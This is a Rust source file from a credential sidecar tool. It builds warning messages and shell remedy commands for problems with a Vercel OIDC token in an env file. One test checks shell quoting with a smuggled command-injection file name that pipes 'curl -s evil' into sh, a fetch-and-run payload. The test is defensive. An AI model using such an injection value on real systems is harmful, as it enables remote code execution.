//! Texts, codes and remedies of everything a person is warned of about the credential. The log, the status, events and
//! desktop notices all use them.
//!
//! A warning contains the names of the project and of the token's source, and nothing of the token.

use std::time::Duration;

use nix::unistd::Uid;
use tracing::{error, warn};

use super::env_file;
use crate::events;
use crate::os::clock::{Expiry, Timestamp, format_duration};
use crate::os::safe_read::{Defect, DefectCause};
use crate::os::shell_quoting;
use crate::remedy::Remedy;

/// The command that writes a fresh token to the env file.
pub const ENV_PULL: &str = "vercel env pull";

/// The command that installs the Vercel CLI.
pub const INSTALL_CLI: &str = "npm install --global vercel";

/// Restricts access to a file to its owner.
pub fn restrict_to_owner(file: &str) -> Remedy {
    Remedy::run(format!("chmod 600 {}", shell_quoting::path(file)))
}

/// How to fix a source whose token cannot be used. It is [`ENV_PULL`] only if a new token would help.
pub fn remedy_for(defect: &Defect, source: &str) -> Remedy {
    let file = shell_quoting::path(source);
    match &defect.cause {
        DefectCause::Content => Remedy::run(ENV_PULL),
        DefectCause::Encrypted => Remedy::run(format!("npx dotenvx decrypt -f {file}")),
        DefectCause::WritableByAll => restrict_to_owner(source),
        DefectCause::UnreadableByOwner => Remedy::run(format!("chmod u+r {file}")),
        DefectCause::ClosedDirectory(dir) => {
            Remedy::run(format!("chmod u+rx {}", shell_quoting::path(&dir.display().to_string())))
        }
        DefectCause::Owner if Uid::effective().is_root() => {
            let command = format!("chown root {file}");
            Remedy::advice(format!("run the sidecar as the user who owns {source}, or run `{command}`"))
                .with_command(command)
        }
        DefectCause::Owner => {
            let command = format!("sudo chown \"$(id -u)\" {file}");
            Remedy::advice(format!("run `{command}`, or run the sidecar as the user who owns {source}"))
                .with_command(command)
        }
        DefectCause::NotAFile => {
            let old = shell_quoting::path(&format!("{source}.old"));
            Remedy::run(format!("mv {file} {old} && {ENV_PULL}"))
        }
        DefectCause::Size => Remedy::advice(format!("leave nothing but variables in {source}")),
        DefectCause::FileSystem => Remedy::advice(format!("check the disk or the mount that {source} is on")),
        DefectCause::Known(remedy) => remedy.clone(),
    }
}

/// Sets this machine's clock.
pub fn set_clock() -> Remedy {
    Remedy::run(match cfg!(target_os = "macos") {
        true => "sudo sntp -sS time.apple.com",
        false => "sudo timedatectl set-ntp true",
    })
}

/// A problem that a person has to act on.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Warning {
    /// Identifies the kind of warning to programs.
    pub code: &'static str,
    /// A clause: lower case, no full stop.
    problem: String,
    /// What fixes it.
    pub remedy: Remedy,
}

impl Warning {
    /// The code for a missing token.
    pub const MISSING: &'static str = "oidc_token_missing";
    /// The code for an expired token.
    pub const EXPIRED: &'static str = "oidc_token_expired";

    fn new(code: &'static str, problem: String, remedy: Remedy) -> Self {
        Self { code, problem, remedy }
    }

    /// The token of a project is about to expire, or has expired.
    pub fn expiry(project: &str, expiry: Expiry) -> Self {
        let code = match expiry {
            Expiry::In(_) => "oidc_token_expiring",
            Expiry::Ago(_) => Self::EXPIRED,
        };
        Self::new(code, format!("the OIDC token of {project} {expiry}"), Remedy::run(ENV_PULL))
    }

    /// The source has no token.
    pub fn missing(source: &str) -> Self {
        Self::new(Self::MISSING, format!("there is no OIDC token in {source}"), Remedy::run(ENV_PULL))
    }

    /// The source, or the token in it, cannot be used.
    pub fn invalid(source: &str, defect: &Defect) -> Self {
        let problem = format!("cannot use the token in {source}: {defect}");
        Self::new("oidc_token_invalid", problem, remedy_for(defect, source))
    }

    /// Automatic refresh stopped after this many failures. `last` is the remedy for the last one.
    pub fn refresh_gave_up(failures: u32, last: &Remedy) -> Self {
        let last = last.command.as_ref().map(|command| format!(": `{command}` may help")).unwrap_or_default();
        let problem = format!("gave up refreshing the OIDC token after {failures} failures in a row{last}");
        Self::new("refresh_gave_up", problem, Remedy::run("connect-sidecar refresh"))
    }

    /// Automatic refresh is not possible, because there is no Vercel CLI that may be run.
    pub fn refresh_unavailable(reason: &impl std::fmt::Display) -> Self {
        let problem = format!("the OIDC token cannot be refreshed: {reason}");
        Self::new("refresh_unavailable", problem, Remedy::run(INSTALL_CLI))
    }

    /// Automatic refresh waits for an approval of the project. Named by ids, because a forged token can have any name.
    pub fn refresh_held(project_id: &str, owner_id: &str) -> Self {
        let problem = format!(
            "the OIDC token is not refreshed by itself: no request for {project_id} of {owner_id} was accepted yet, nor has \
             anybody confirmed it"
        );
        Self::new("refresh_held", problem, Remedy::run("connect-sidecar refresh"))
    }

    /// The token is for another environment than development; `None` if it is for development.
    pub fn of_environment(environment: Option<&str>) -> Option<Self> {
        let environment = environment.unwrap_or("unknown");
        let problem = format!("this token is of environment {environment}, not development: requests act there");
        (environment != "development")
            .then(|| Self::new("not_development", problem, Remedy::run("vercel env pull --environment=development")))
    }

    /// Other users of the machine can read the file.
    pub fn readable_by_others(file: &str) -> Self {
        let problem = format!("other users can read {file}");
        Self::new("env_file_readable_by_others", problem, restrict_to_owner(file))
    }

    /// The file assigns the token more than once.
    pub fn duplicate_assignments(file: &str) -> Self {
        let problem = format!("{file} assigns {} more than once, the last one is used", env_file::KEY);
        let remedy = Remedy::advice(format!("delete all but one of the lines with {}", env_file::KEY));
        Self::new("duplicate_assignments", problem, remedy)
    }

    /// The file is a bind mount, and was replaced on the host.
    pub fn stale_mount(file: &str) -> Self {
        let problem =
            format!("{file} was replaced outside, and the mount shows the old one: mount its directory instead");
        Self::new("env_file_replaced", problem, Remedy::advice(format!("mount the directory of {file}, not the file")))
    }

    /// This machine's clock differs from upstream's.
    pub fn clock_skew(by: Duration) -> Self {
        let problem = format!("this machine's clock differs from upstream's by {}", format_duration(by));
        Self::new("clock_skew", problem, set_clock())
    }

    /// Whether it is logged as an error: requests fail now, or will fail because nothing refreshes the token.
    fn is_error(&self) -> bool {
        [Self::EXPIRED, "refresh_gave_up", "refresh_unavailable"].contains(&self.code)
    }

    /// Logs it.
    pub fn log(&self, project: Option<&str>) {
        let (code, Remedy { hint, command }) = (self.code, &self.remedy);
        let (hint, command) = (&**hint, command.as_deref());
        if self.is_error() {
            error!(code, project, hint, command, "{}", self.log_line());
        } else {
            warn!(code, project, hint, command, "{}", self.log_line());
        }
    }

    /// The problem and the remedy, as in the log.
    pub fn log_line(&self) -> String {
        format!("{}, {}", self.problem, self.remedy)
    }

    /// An event for this project.
    pub fn to_event(&self, at: Timestamp, project: String) -> events::Warning {
        let (message, remedy) = (self.sentence(), self.remedy.clone());
        let level = if self.is_error() { "ERROR" } else { "WARN" };
        events::Warning { at, level, code: self.code, message, remedy, project }
    }

    /// The problem as a sentence, for places that show the remedy separately.
    pub fn sentence(&self) -> String {
        let mut rest = self.problem.chars();
        let first = rest.next().map(|first| first.to_ascii_uppercase());
        first.into_iter().chain(rest).chain(['.']).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn log_line_and_sentence_have_the_same_text() {
        let warning = Warning::expiry("acme/web", Expiry::In(Duration::from_secs(900)));
        assert_eq!(warning.log_line(), "the OIDC token of acme/web expires in 15 min, run `vercel env pull`");
        assert_eq!(warning.sentence(), "The OIDC token of acme/web expires in 15 min.");
        let warning = Warning::duplicate_assignments(".env.local");
        let key = env_file::KEY;
        assert_eq!(warning.sentence(), format!(".env.local assigns {key} more than once, the last one is used."));
        assert!(warning.log_line().ends_with(&format!(", delete all but one of the lines with {key}")));
    }

    #[test]
    fn each_cause_has_its_remedy() {
        let known = Remedy::advice("x");
        for (cause, command) in [
            (DefectCause::Content, Some("vercel env pull")),
            (DefectCause::WritableByAll, Some("chmod 600 'my env'")),
            (DefectCause::UnreadableByOwner, Some("chmod u+r 'my env'")),
            (DefectCause::ClosedDirectory("/a b".into()), Some("chmod u+rx '/a b'")),
            (DefectCause::NotAFile, Some("mv 'my env' 'my env.old' && vercel env pull")),
            (DefectCause::Size, None),
            (DefectCause::FileSystem, None),
            (DefectCause::Known(known.clone()), None),
        ] {
            let remedy = remedy_for(&Defect::new("no good", cause.clone()), "my env");
            assert_eq!(remedy.command.as_deref(), command, "{cause:?}");
            let invalid = Warning::invalid("my env", &Defect::new("no good", cause));
            assert_eq!(invalid.log_line(), format!("cannot use the token in my env: no good, {remedy}"));
        }
        let owner = remedy_for(&Defect::new("no good", DefectCause::Owner), "my env");
        assert!(owner.command.is_some_and(|command| command.contains("chown ") && command.ends_with(" 'my env'")));
        assert!(owner.hint.contains("as the user who owns my env"), "{}", owner.hint);
    }

    #[test]
    fn file_names_are_quoted_in_commands() {
        for (file, hint) in [
            (".env.local", "chmod 600 .env.local"),
            (".env;curl -s evil|sh;#", "chmod 600 '.env;curl -s evil|sh;#'"),
            ("-R", "chmod 600 ./-R"),
        ] {
            assert_eq!(Warning::readable_by_others(file).remedy, Remedy::run(hint));
        }
    }
}
